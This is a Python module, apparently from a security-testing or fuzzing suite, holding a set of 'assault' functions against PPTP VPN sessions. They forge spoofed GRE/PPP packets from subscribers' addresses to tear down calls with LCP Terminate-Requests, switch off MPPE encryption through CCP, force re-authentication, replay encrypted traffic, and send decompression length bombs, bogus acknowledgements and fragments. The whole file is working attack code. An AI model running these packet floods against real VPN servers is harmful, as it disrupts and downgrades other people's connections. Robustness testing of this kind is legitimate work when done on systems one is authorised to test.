# SPDX-License-Identifier: Apache-2.0
"""By somebody who knows the calls' addresses, IDs and numbers: frames that nothing authenticates, or that fail to be."""
import os

from assaults.assault import IDENTIFICATION, PAYLOAD, SEQUENCE, assault, each_pass, gre, ipv4, random
from assaults.sweeps import CCP, CHAP, IPCP, KINDS, LCP, PPP, control

COUNT = PAYLOAD + 4  # MPPE's coherency count, behind ff 03 00 fd
NEAR = 3  # ahead of what was last seen: the call has sent one or two since


def each_call(field, payloads, ahead=NEAR):
    return [ipv4(call.source, field.target.address, gre(call.call_id, payload(call) if callable(payload) else payload,
                                                        sequence=call.sequence + ahead))
            for payload in payloads for call in field.calls]


@assault("empty payloads whose numbers are far ahead, up to 2^31", brief=True)
def empty_far_ahead(field):
    packets = [packet for ahead in (5_000, 1 << 16, 1 << 24, 1 << 30, (1 << 31) - 10_000)
               for packet in each_call(field, [b""], ahead)]
    return field.flood(packets, each_pass(SEQUENCE, 4))


@assault("empty payloads at the next numbers")
def empty_near(field):
    return field.flood(each_call(field, [b""]), each_pass(SEQUENCE, 4))


@assault("clear frames of every kind but the end of a link, at the next numbers")
def clear(field):
    left_out = ("LCP Terminate-Request", "LCP Configure-Request", "an empty payload", "MPPE")
    kinds = [payload for name, payload in KINDS.items() if name not in left_out]
    return field.flood(each_call(field, kinds), each_pass(SEQUENCE, 4))


@assault("LCP Terminate-Requests, near and far ahead", brief=True)
def terminate(field):
    packets = [packet for ahead in (NEAR, 5_000, 1 << 30) for packet in each_call(field, [control(LCP, 5)], ahead)]
    return field.flood(packets, each_pass(SEQUENCE, 4))


@assault("LCP Configure-Requests at the next numbers")
def renegotiate(field):
    return field.flood(each_call(field, [KINDS["LCP Configure-Request"]]), each_pass(SEQUENCE, 4))


@assault("CCP: Configure-, Terminate- and Reset-Requests at the next numbers")
def encryption_off(field):
    kinds = [KINDS["CCP Terminate-Request"], KINDS["CCP Configure-Request"], KINDS["CCP Reset-Request"], control(CCP, 4, b"\x12\x06\0\0\0\0")]
    return field.flood(each_call(field, kinds), each_pass(SEQUENCE, 4))


@assault("IPCP and CHAP at the next numbers: a second negotiation, a second log-in")
def network_anew(field):
    kinds = [KINDS["IPCP Configure-Request"], KINDS["IPCP Terminate-Request"], KINDS["CHAP Response"], control(CHAP, 3), control(IPCP, 2)]
    return field.flood(each_call(field, kinds), each_pass(SEQUENCE, 4))


@assault("random MPPE at plausible numbers and counts")
def mppe_plausible(field):
    def nonsense(call):
        return PPP + b"\x00\xfd" + (0x9000 | (call.count + NEAR) & 0xFFF).to_bytes(2, "big") + os.urandom(64)
    return field.flood(each_call(field, [nonsense]), each_pass(SEQUENCE, 4), each_pass(COUNT, 2, 1, 64), random(COUNT + 2, 8))


def compressed_payloads():
    """For each_call: length bombs, bad offsets and nonsense at plausible counts."""
    bomb = b"\x41\xf0\x7f\xfb\xff\xc0"  # six octets that ask for 8,192
    bodies = (bomb, b"\xf0\x00", b"\xdf\xff\xff\xff", b"\x41\xf0", os.urandom(64), os.urandom(1400))

    def packet(bits, body):
        return lambda call: PPP + b"\x00\xfd" + (bits | (call.count + NEAR) & 0xFFF).to_bytes(2, "big") + body
    return [packet(bits, body) for bits in (0x2000, 0xA000, 0xB000, 0xF000) for body in bodies]


@assault("compressed packets: length bombs, bad offsets and nonsense, in clear and as if encrypted")
def compressed(field):
    return field.flood(each_call(field, compressed_payloads()), each_pass(SEQUENCE, 4), each_pass(COUNT + 1, 1, 1, 64))


@assault("random MPPE at plausible numbers, counts late or at random", brief=True)
def mppe_any_count(field):
    def nonsense(call):
        return PPP + b"\x00\xfd\x90\x00" + os.urandom(64)
    return field.flood(each_call(field, [nonsense]), each_pass(SEQUENCE, 4), random(COUNT, 2), random(COUNT + 2, 8))


@assault("the calls' own encrypted packets, again and again under new numbers", brief=True)
def replayed(field):
    calls = [call for call in field.calls if call.payload]
    packets = [ipv4(call.source, field.target.address, gre(call.call_id, call.payload, sequence=call.sequence + NEAR + copy))
               for call in calls for copy in range(32)]  # in one burst
    return field.flood(packets, each_pass(SEQUENCE, 4, 32))


@assault("acknowledgements of what was never sent")
def acknowledgements(field):
    packets = [ipv4(call.source, field.target.address, gre(call.call_id, b"", flags=0x20, ack=0x7FFFFFFF)) for call in field.calls]
    return field.flood(packets, random(SEQUENCE, 4))


@assault("fragments of GRE from the subscribers' own addresses")
def fragments(field):
    whole = gre(1, bytes(64))
    packets = [ipv4(source, field.target.address, whole[:40], offset=0x2000) for source in sorted({call.source for call in field.calls})]
    return field.flood(packets, random(IDENTIFICATION, 2))
